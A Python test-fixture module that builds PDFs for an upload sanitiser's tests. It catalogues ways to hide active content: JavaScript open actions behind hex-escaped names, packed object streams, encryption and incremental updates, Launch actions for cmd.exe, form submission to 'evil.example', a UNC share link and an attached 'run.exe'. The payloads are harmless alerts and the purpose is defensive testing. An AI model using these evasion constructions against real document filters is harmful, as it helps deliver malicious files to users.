"""PDF documents with something in them that no record needs, in the places where it was hidden."""

from __future__ import annotations

import base64
import io
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.uploaded import raw_pdf

CANARY = "canary-7b3e"
SCRIPT: dict[str, Any] = {"S": Name.JavaScript, "JS": String(f"app.alert('{CANARY}')")}
Change = Callable[[Pdf], None]


def saved(change: Change, **how: Any) -> bytes:
    """Return a document of one page after a change."""
    with pikepdf.open(io.BytesIO(raw_pdf())) as document:
        change(document)
        made = io.BytesIO()
        document.save(made, **how)
        return made.getvalue()


def laid_out(*objects: bytes, version: bytes = b"1.7", root: int = 1, more: bytes = b"") -> bytes:
    """Return a document with objects of one's own, its table of them in order."""
    made = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer\n<</Size %d /Root %d 0 R %s>>\n" % (len(objects) + 1, root, more)
    return bytes(made + b"startxref\n%d\n%%%%EOF\n" % start)


PAGES = (b"<</Type /Pages /Kids [3 0 R] /Count 1>>",)
PAGE = b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources <<>> %s>>"


def one_page(catalog: bytes, *others: bytes, page: bytes = b"") -> bytes:
    """Return a document by its catalog's further keys, its page's, and objects from number 4 on."""
    first = b"<</Type /Catalog /Pages 2 0 R %s>>" % catalog
    return laid_out(first, *PAGES, PAGE % page, *others)


def in_object_stream(filter_: bytes, packed: bytes, *others: bytes) -> bytes:
    """Return a document whose action on opening is object 10, in a stream of objects (object 5)."""
    objects: dict[int, bytes] = {
        1: b"<</Type /Catalog /Pages 2 0 R /OpenAction 10 0 R>>",
        2: PAGES[0],
        3: PAGE % b"",
        5: b"<</Type /ObjStm /N 1 /First 5 /Filter %s /Length %d>>\nstream\n%s\nendstream"
        % (filter_, len(packed), packed),
    }
    objects |= dict(enumerate(others, 7))
    made, places = bytearray(b"%PDF-1.7\n"), {}
    for number, content in objects.items():
        places[number] = len(made)
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(made)
    rows = bytearray()
    for number in range(12):
        row = (1, places[number], 0) if number in places else (0, 0, 0)
        row = (2, 5, 0) if number == 10 else (1, start, 0) if number == 11 else row
        rows += row[0].to_bytes(1, "big") + row[1].to_bytes(4, "big") + row[2].to_bytes(2, "big")
    about = b"<</Type /XRef /Size 12 /W [1 4 2] /Root 1 0 R /Length %d>>" % len(rows)
    made += b"11 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (about, rows)
    return bytes(made + b"startxref\n%d\n%%%%EOF\n" % start)


ACTION = b"10 0 <</S/JavaScript/JS(app.alert(1))>>"


def _annotated(**keys: Any) -> Change:
    def change(document: Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=[0, 0, 20, 20], **keys)
        document.pages[0].Annots = Array([document.make_indirect(note)])

    return change


def _in_catalog(**keys: Any) -> Change:
    def change(document: Pdf) -> None:
        for key, value in keys.items():
            document.Root[f"/{key}"] = value

    return change


def _attached(document: Pdf) -> None:
    document.attachments["run.exe"] = pikepdf.AttachedFileSpec(document, b"MZ", filename="run.exe")


def _attached_untyped(document: Pdf) -> None:
    held = document.make_stream(b"MZ")
    spec = Dictionary(F=String("run.exe"), EF=Dictionary(F=held))
    _annotated(Subtype=Name.FileAttachment, FS=spec)(document)


def _form(**about: Any) -> Change:
    def change(document: Pdf) -> None:
        document.Root.AcroForm = Dictionary(Fields=Array([]), **about)

    return change


def _orphan(document: Pdf) -> None:
    """Put a script where nothing looks for one; a page's private data keeps it in the file."""
    document.pages[0].PieceInfo = Dictionary(X=document.make_indirect(Dictionary(**SCRIPT)))


def replaced() -> bytes:
    """Return a document whose first version, still in the file, ran a script."""
    before = one_page(b"/OpenAction <</S /JavaScript /JS (app.alert(1))>>")
    again = len(before)
    catalog = b"1 0 obj\n<</Type /Catalog /Pages 2 0 R>>\nendobj\n"
    before_xref = int(before.rpartition(b"startxref\n")[2].split()[0])
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<</Size 4 /Root 1 0 R /Prev %d>>\n"
    end = b"startxref\n%d\n%%%%EOF\n" % (again + len(catalog))
    return before + catalog + table % (again, before_xref) + end


def _named(document: Pdf) -> None:
    tree = Dictionary(Names=Array([String("a"), Dictionary(**SCRIPT)]))
    document.Root.Names = Dictionary(JavaScript=tree)


def _outlined(document: Pdf) -> None:
    entry = document.make_indirect(Dictionary(Title=String("x"), A=Dictionary(**SCRIPT)))
    document.Root.Outlines = Dictionary(First=entry, Last=entry, Count=1)


def _hidden_name() -> bytes:
    return one_page(b"/Open#41ction <</S /Java#53cript /J#53 (app.alert(1))>>")


# Each runs something, opens another file or carries one: refused, whatever it is wrapped in.
ARMED: dict[str, Callable[[], bytes]] = {
    "script on opening": lambda: saved(_in_catalog(OpenAction=Dictionary(**SCRIPT))),
    "script, names written in digits": _hidden_name,
    "script in hexadecimal objects": lambda: in_object_stream(
        b"/ASCIIHexDecode", ACTION.hex().encode() + b">"
    ),
    "script in objects packed as said elsewhere": lambda: in_object_stream(
        b"7 0 R", zlib.compress(ACTION), b"/FlateDecode"
    ),
    "script in objects packed twice": lambda: in_object_stream(
        b"[/ASCII85Decode /FlateDecode]", _ascii85(zlib.compress(ACTION))
    ),
    "script as a stream": lambda: one_page(
        b"/OpenAction <</S /JavaScript /JS 4 0 R>>", b"<</Length 3>>\nstream\nx()\nendstream"
    ),
    "script among the names": lambda: saved(_named),
    "script in an outline": lambda: saved(_outlined),
    "script when a page is shown": lambda: one_page(
        b"", page=b"/AA <</O <</S /JavaScript /JS (x\\(\\))>>>>"
    ),
    "script after another action": lambda: one_page(
        b"/OpenAction <</S /GoTo /D [3 0 R /Fit] /Next [<</S /JavaScript /JS (x)>>]>>"
    ),
    "script in an object that nothing uses": lambda: saved(_orphan),
    "script in a field": lambda: saved(
        _annotated(Subtype=Name.Widget, FT=Name.Tx, AA=Dictionary(K=Dictionary(**SCRIPT)))
    ),
    "script in objects with a lock for owners": lambda: saved(
        _in_catalog(OpenAction=Dictionary(**SCRIPT)), encryption=pikepdf.Encryption(owner="x")
    ),
    "program started": lambda: saved(
        _in_catalog(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe")))
    ),
    "program started by a link": lambda: saved(
        _annotated(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))
    ),
    "program started, its kind said elsewhere": lambda: one_page(
        b"/OpenAction 4 0 R", b"<</S 5 0 R /F (cmd.exe)>>", b"/Launch"
    ),
    "program started, its kind said twice": lambda: one_page(
        b"/OpenAction <</S /GoTo /S /Launch /F (cmd.exe)>>"
    ),
    "script where a typeface is": lambda: one_page(
        b"",
        b"<</Type /Font /Subtype /Type1 /X <</S /JavaScript /JS (x)>>>>",
        page=b"/Resources <</Font <</F1 4 0 R>>>>",
    ),
    "program in a document behind a second head": lambda: (
        b"%PDF-1.4\n"
        + saved(_in_catalog(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe"))))
    ),
    "document on a share": lambda: saved(
        _in_catalog(OpenAction=Dictionary(S=Name.GoToR, F=String("\\\\evil\\x.pdf"), D=[0]))
    ),
    "document inside a document": lambda: saved(
        _in_catalog(OpenAction=Dictionary(S=Name.GoToE, D=[0]))
    ),
    "form that sends itself": lambda: saved(
        _annotated(
            Subtype=Name.Widget, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))
        )
    ),
    "form that fetches": lambda: saved(
        _in_catalog(OpenAction=Dictionary(S=Name.ImportData, F=String("x.fdf")))
    ),
    "link to a script": lambda: saved(
        _annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(" JavaScript:x()")))
    ),
    "link to a file": lambda: saved(
        _annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file://evil/x")))
    ),
    "file attached": lambda: saved(_attached),
    "file attached to a note, untyped": lambda: saved(_attached_untyped),
    "files as a portfolio": lambda: saved(_in_catalog(Collection=Dictionary(View=Name.D))),
    "film": lambda: saved(_annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary())),
    "film on a screen": lambda: saved(_annotated(Subtype=Name.Screen)),
    "sound": lambda: saved(_annotated(Subtype=Name.Sound)),
    "solid": lambda: saved(_annotated(Subtype=Name("/3D"))),
    "form written in XML": lambda: saved(_form(XFA=String("<x/>"))),
}


def _ascii85(content: bytes) -> bytes:
    return base64.a85encode(content) + b"~>"


def _put(document: Pdf, where: pikepdf.Object, *keys: str) -> None:
    for key in keys:
        where[key] = document.make_indirect(Dictionary(Told=String(CANARY)))


def _everywhere(document: Pdf) -> None:
    """Put something under every key that isn't needed to show a page, and one that isn't a key."""
    _put(document, document.Root, *NOT_COPIED["catalog"])
    page = document.pages[0].obj
    _put(document, page, *NOT_COPIED["page"])
    page.Annots = Array([])
    picture = Stream(document, bytes(3), Subtype=Name.Image, Width=1, Height=1)
    picture.ColorSpace, picture.BitsPerComponent = Name.DeviceRGB, 8
    _put(document, picture, *NOT_COPIED["image"])
    drawn = Stream(document, b"", Subtype=Name.Form, BBox=[0, 0, 1, 1])
    _put(document, drawn, *NOT_COPIED["form"])
    script = Stream(document, CANARY.encode(), Subtype=Name.PS)
    objects = Dictionary(Im=picture, Fm=drawn, Ps=script)
    page.Resources.XObject = document.make_indirect(objects)
    _put(document, page.Resources, "/Unknown", "/Properties")
    state = Dictionary(Type=Name.ExtGState, LW=1)
    _put(document, state, *NOT_COPIED["state"])
    page.Resources.ExtGState = Dictionary(Gs=state)
    for font in page.Resources.Font.values():
        _put(document, font, *NOT_COPIED["font"])
    document.docinfo["/Author"] = String(CANARY)
    with document.open_metadata() as told:
        told["dc:creator"] = [CANARY]


NOT_COPIED: dict[str, tuple[str, ...]] = {
    "catalog": (
        *("/AA", "/Dests", "/Extensions", "/Legal", "/MarkInfo", "/Names", "/OutputIntents"),
        *("/PageLabels", "/Perms", "/PieceInfo", "/Requirements", "/SpiderInfo"),
        *("/StructTreeRoot", "/Threads", "/ViewerPreferences", "/DSS", "/Unknown"),
    ),
    "page": (
        *("/AA", "/B", "/BoxColorInfo", "/Metadata", "/PieceInfo", "/PresSteps", "/SeparationInfo"),
        *("/Thumb", "/Trans", "/VP", "/Unknown"),
    ),
    "image": ("/Alternates", "/ID", "/Metadata", "/OPI", "/PtData", "/Measure", "/F", "/Unknown"),
    "form": ("/Metadata", "/OPI", "/PieceInfo", "/PS", "/Ref", "/F", "/Unknown"),
    "state": ("/HT", "/HTO", "/UseBlackPtComp", "/Unknown"),
    "font": ("/Metadata", "/AA", "/Unknown"),
}


def talkative() -> bytes:
    """Return a document that tells of its maker under every key that may be there."""
    return saved(_everywhere)


def names(content: bytes) -> set[str]:
    """Return every name in a document, as key or value, wherever it stands."""
    with pikepdf.open(io.BytesIO(content)) as document:
        return {name for one in document.objects for name in _names(one)}


def _names(one: object) -> Iterator[str]:
    if isinstance(one, pikepdf.Name):
        yield str(one)
    elif isinstance(one, Dictionary | Stream):
        for key, value in one.items():
            yield key
            if not getattr(value, "is_indirect", False):
                yield from _names(value)
    elif isinstance(one, Array):
        for value in one:
            if not getattr(value, "is_indirect", False):
                yield from _names(value)


def unpacked(content: bytes) -> bytes:
    """Return a document's bytes with all that is packed in it unpacked."""
    with pikepdf.open(io.BytesIO(content)) as document:
        made = io.BytesIO()
        document.save(
            made,
            compress_streams=False,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
        )
        return made.getvalue()
